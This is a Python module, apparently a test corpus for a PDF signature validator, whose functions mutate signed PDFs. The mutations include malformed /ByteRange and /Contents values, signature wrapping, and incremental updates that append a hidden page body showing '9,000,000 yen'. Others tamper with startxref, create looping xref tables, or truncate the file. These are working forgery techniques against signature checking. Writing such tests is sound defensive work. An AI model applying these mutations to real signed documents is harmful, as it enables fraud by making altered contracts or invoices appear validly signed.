"""Attacks on the bytes (バイト列への攻撃): wrapping, forgery of the dictionary, hidden bodies, damage."""

from __future__ import annotations

import re
from collections.abc import Callable

_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")
_EVIL = b"BT /F1 14 Tf 60 640 Td (9,000,000 yen) Tj ET"


def _last(content: bytes) -> re.Match[bytes]:
    return list(_RANGE.finditer(content))[-1]


def _same_length(old: bytes, new: bytes) -> bytes:
    assert len(new) <= len(old)
    return new.ljust(len(old))


def _dictionary(content: bytes, old: bytes, new: bytes) -> bytes:
    """Replaces words of the last signature dictionary, keeping every offset."""
    at = _last(content).start()
    start = content.rfind(b" obj", 0, at)
    end = content.find(b"endobj", at)
    changed = content[start:end].replace(old, _same_length(old, new))
    assert changed != content[start:end], old
    return content[:start] + changed + content[end:]


def byte_range_absent(content: bytes) -> bytes:
    return _dictionary(content, b"/ByteRange", b"/ByteRangX")


def byte_range_null(content: bytes) -> bytes:
    return _dictionary(content, _last(content).group(), b"/ByteRange null")


def byte_range_empty(content: bytes) -> bytes:
    return _dictionary(content, _last(content).group(), b"/ByteRange []")


def byte_range_negative(content: bytes) -> bytes:
    return _dictionary(content, _last(content).group(), b"/ByteRange [0 -1 -1 0]")


def byte_range_short(content: bytes) -> bytes:
    return _dictionary(content, _last(content).group(), b"/ByteRange [0 100]")


def byte_range_of_zeros(content: bytes) -> bytes:
    return _dictionary(content, _last(content).group(), b"/ByteRange [0 0 0 0]")


def byte_range_of_words(content: bytes) -> bytes:
    return _dictionary(content, _last(content).group(), b"/ByteRange [/a /b /c /d]")


def byte_range_of_one_block(content: bytes) -> bytes:
    first = _last(content).group(2).decode()
    return _dictionary(content, _last(content).group(), f"/ByteRange [0 {first} {first} 0]".encode())


def contents_absent(content: bytes) -> bytes:
    return _dictionary(content, b"/Contents", b"/Contentz")


def contents_null(content: bytes) -> bytes:
    return _gap(content, lambda gap: _same_length(gap, b"null"))


def contents_empty(content: bytes) -> bytes:
    return _gap(content, lambda gap: _same_length(gap, b"<>"))


def contents_zero(content: bytes) -> bytes:
    return _gap(content, lambda gap: b"<" + b"0" * (len(gap) - 2) + b">")


def contents_of_another_type(content: bytes) -> bytes:
    return _gap(content, lambda gap: _same_length(gap, b"12345"))


def type_changed(content: bytes) -> bytes:
    at = content.rfind(b"/DocTimeStamp")
    word = b"/DocTimeStamp" if at > 0 and at > content.rfind(b"/Type /Sig") else b"/Sig"
    return _dictionary(content, word, b"/X" if word == b"/Sig" else b"/XocTimeStamp")


def subfilter_absent(content: bytes) -> bytes:
    return _dictionary(content, b"/SubFilter", b"/SubFilteX")


def padding_used(content: bytes) -> bytes:
    """Data in the zeros after the CMS object, where a second document may hide."""
    return _gap(content, lambda gap: gap[:-9] + b"41414141>")


def gap_with_body(content: bytes) -> bytes:
    """Part of the hexadecimal string gives way to objects."""
    body = b"><</a " + b"1" * 20 + b">>"
    return _gap(content, lambda gap: gap[: -len(body)] + body)


def wrapped(content: bytes) -> bytes:
    """Signature wrapping: the signed second block moved to the end, a new dictionary points there."""
    match = _last(content)
    _, first, second, last = (int(number) for number in match.groups())
    tail = content[second : second + last]
    owner = list(re.finditer(rb"(\d+) (\d+) obj", content[: match.start()]))[-1]
    dictionary = content[owner.start() : content.find(b"endobj", match.start()) + 6]
    update = content + b"\n"
    moved = len(update) + len(dictionary) + 200
    old = match.group()
    new = f"/ByteRange [0 {first} {moved} {last}]".encode()
    place = len(update)
    update += dictionary.replace(old, new) + b"\n"
    table = len(update)
    number = int(owner.group(1))
    update += f"xref\n{number} 1\n{place:010d} 00000 n \n".encode()
    update += b"trailer\n<</Size 99 /Root " + _root(content) + b" /Prev " + _startxref(content) + b">>\n"
    update += f"startxref\n{table}\n%%EOF\n".encode()
    assert len(update) <= moved
    return update.ljust(moved) + tail


def bodies_only(content: bytes) -> bytes:
    """Incremental saving without a table: some readers rebuild one and show the new body."""
    number = _content_number(content)
    body = f"\n{number} 0 obj\n<</Length {len(_EVIL)}>>\nstream\n".encode() + _EVIL + b"\nendstream\nendobj\n"
    return content + body


def bodies_and_trailer(content: bytes) -> bytes:
    return bodies_only(content) + b"trailer\n<</Root " + _root(content) + b">>\n"


def bodies_and_end(content: bytes) -> bytes:
    """New bodies, but `startxref` names the old table."""
    return bodies_only(content) + b"startxref\n" + _startxref(content) + b"\n%%EOF\n"


def bodies_behind_a_comment(content: bytes) -> bytes:
    return content + b"%" + b"x" * 2000 + bodies_only(content)[len(content) :] + b"%%EOF\n"


def wrong_startxref(content: bytes) -> bytes:
    at = content.rfind(b"startxref")
    digits = re.compile(rb"\d+").search(content, at)
    assert digits
    return content[: digits.start()] + b"7".rjust(len(digits.group()), b"0") + content[digits.end() :]


def loop_of_tables(content: bytes) -> bytes:
    """A table that names itself as its predecessor."""
    at = len(content) + 1
    table = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 99 /Root " + _root(content)
    return content + b"\n" + table + f" /Prev {at}>>\nstartxref\n{at}\n%%EOF\n".encode()


def truncated(content: bytes) -> bytes:
    return content[: len(content) - len(content) // 10]


def cut_after_the_hole(content: bytes) -> bytes:
    return content[: int(_last(content).group(3)) + 5]


def prefixed(content: bytes) -> bytes:
    return b"#!/bin/sh\n" + content


def page_byte(content: bytes) -> bytes:
    at = content.find(b"/MediaBox") + 12
    return content[:at] + bytes([content[at] ^ 1]) + content[at + 1 :]


BYTEWISE: tuple[Callable[[bytes], bytes], ...] = (
    byte_range_absent,
    byte_range_null,
    byte_range_empty,
    byte_range_negative,
    byte_range_short,
    byte_range_of_zeros,
    byte_range_of_words,
    byte_range_of_one_block,
    contents_absent,
    contents_null,
    contents_empty,
    contents_zero,
    contents_of_another_type,
    type_changed,
    subfilter_absent,
    padding_used,
    gap_with_body,
    wrapped,
    bodies_only,
    bodies_and_trailer,
    bodies_and_end,
    bodies_behind_a_comment,
    wrong_startxref,
    loop_of_tables,
    truncated,
    cut_after_the_hole,
    prefixed,
    page_byte,
)


def _gap(content: bytes, change: Callable[[bytes], bytes]) -> bytes:
    _, first, second, _ = (int(number) for number in _last(content).groups())
    gap = change(content[first:second])
    assert len(gap) == second - first
    return content[:first] + gap + content[second:]


def _root(content: bytes) -> bytes:
    return re.findall(rb"/Root (\d+ \d+ R)", content)[-1]


def _startxref(content: bytes) -> bytes:
    return re.findall(rb"startxref\s+(\d+)", content)[-1]


def _content_number(content: bytes) -> int:
    found = re.search(rb"/Contents (\d+) 0 R", content)
    return int(found.group(1)) if found else 5
